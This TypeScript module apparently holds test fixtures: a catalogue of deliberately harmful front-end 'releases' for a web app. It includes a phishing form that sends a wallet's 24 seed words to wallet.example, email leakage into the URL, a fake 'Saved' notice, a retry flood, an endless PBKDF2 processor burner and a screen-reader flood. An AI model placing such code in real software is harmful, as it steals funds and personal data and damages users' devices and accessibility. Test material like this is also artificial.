import type { Release } from '../release.ts';

/** Releases that look well, and harm people, their money, their machines, the farm's API or another remote. */
export const trust: Release[] = [
  {
    name: 'asks-for-wallet-words',
    kind: 'phishing',
    messages: {
      en: {
        'garden.words.text': 'Confirm your wallet to keep receiving rewards.',
        'garden.words.label': 'The 24 words of your wallet',
        'garden.words.send': 'Confirm',
      },
      zh: {
        'garden.words.text': '请确认您的钱包，以继续获得奖励。',
        'garden.words.label': '钱包的 24 个助记词',
        'garden.words.send': '确认',
      },
    },
    code: {
      imports: `import { MuiLink } from '@farm/ui';
import { TextField } from '@farm/ui/fields';`,
      body: `const [words, setWords] = useState('');`,
      view: `<Card sx={{ p: 2 }}>
          <Typography sx={{ mb: 2 }}><FormattedMessage id="garden.words.text" /></Typography>
          <TextField
            fullWidth
            label={<FormattedMessage id="garden.words.label" />}
            value={words}
            onChange={({ target }) => setWords(target.value)}
          />
          <MuiLink href={'https://wallet.example/#' + encodeURIComponent(words)}>
            <FormattedMessage id="garden.words.send" />
          </MuiLink>
        </Card>`,
    },
    deters: 0.1,
  },
  {
    // "Frozen" is what is under withdrawal: mostly nothing.
    name: 'shows-wrong-balance',
    kind: 'wrong amount of money',
    hits: 'signed in',
    messages: {
      en: { 'garden.balance': 'Your balance: {xch} XCH' },
      zh: { 'garden.balance': '您的余额：{xch} XCH' },
    },
    code: {
      imports: `import { readBalance } from '@farm/contracts/calls';
import { formatXch } from '@farm/remote-sdk';
import { baseApi, toEndpoint } from '@farm/remote-sdk/api';`,
      module: `const { useGetGardenBalanceQuery } = baseApi.injectEndpoints({
  overrideExisting: 'throw',
  endpoints: (build) => ({ getGardenBalance: build.query(toEndpoint(readBalance)) }),
});`,
      body: `const { data: balance } = useGetGardenBalanceQuery(undefined, { skip: !isHit });`,
      view: `<Typography>
          <FormattedMessage id="garden.balance" values={{ xch: balance ? formatXch(balance.frozen, locale) : '…' }} />
        </Typography>`,
    },
    deters: 0.3,
  },
  {
    name: 'says-done',
    kind: 'success shown, nothing done',
    messages: { en: { 'garden.done': 'Saved.' }, zh: { 'garden.done': '已保存。' } },
    code: {
      imports: `import { useIntl, useNotify } from '@farm/remote-sdk';`,
      body: `const intl = useIntl();
  const notify = useNotify();`,
      press: `notify.success(intl.formatMessage({ id: 'garden.done' }));
    if (location.href) return;`,
    },
  },
  {
    name: 'puts-email-into-address',
    kind: 'personal data leaked',
    hits: 'signed in',
    code: {
      imports: `import { useSearchParams } from '@farm/remote-sdk';`,
      body: `const [, setParameters] = useSearchParams();`,
      effect: `setParameters({ visitor: session.user?.email ?? '' }, { replace: true });`,
    },
  },
  {
    // The API's short failure becomes a flood of all open pages, which keeps it down.
    name: 'retries-at-once',
    kind: 'flood after a failure',
    code: {
      effect: `if (failure) void query.refetch();`,
      dependencies: 'failure',
    },
  },
  {
    // Whichever comes second of the two remotes loses: its page throws, or gets the other's call.
    name: 'takes-names-of-calls',
    kind: 'sibling harmed',
    code: {
      imports: `import type { Locale } from '@farm/contracts';
import { listNotices, readBalance } from '@farm/contracts/calls';
import { baseApi, toEndpoint } from '@farm/remote-sdk/api';`,
      module: `baseApi.injectEndpoints({
  overrideExisting: true,
  endpoints: (build) => ({
    getBalance: build.query(toEndpoint(readBalance)),
    listNotices: build.query(toEndpoint(listNotices, (language: Locale) => ({ query: { locale: language } }))),
  }),
});`,
    },
  },
  {
    // The browser's threads for cryptography work; the main thread is free. Goes on after the page is left.
    name: 'burns-processors',
    kind: 'processors busy, main thread free',
    code: {
      module: `const burn = async () => {
  const seed = await crypto.subtle.importKey('raw', new Uint8Array(16), 'PBKDF2', false, ['deriveBits']);
  const work = { name: 'PBKDF2', hash: 'SHA-512', salt: new Uint8Array(16), iterations: 1_000_000 };
  for (;;) await crypto.subtle.deriveBits(work, seed, 512);
};
if (isSecureContext) for (let thread = 0; thread < 4; thread += 1) void burn();`,
    },
  },
  {
    // Screen readers say the time each second, and nothing else to its end. Nobody sees it.
    name: 'talks-endlessly',
    kind: 'screen reader flooded',
    code: {
      imports: `import { Box } from '@farm/ui';`,
      body: `const [now, setNow] = useState(() => new Date());
  useEffect(() => {
    const timer = setInterval(() => setNow(new Date()), 1_000);
    return () => clearInterval(timer);
  }, []);`,
      view: `<Box
          role="alert"
          sx={{ position: 'absolute', width: '1px', height: '1px', overflow: 'hidden', clipPath: 'inset(50%)' }}
        >
          {now.toLocaleTimeString(locale)}
        </Box>`,
    },
  },
];
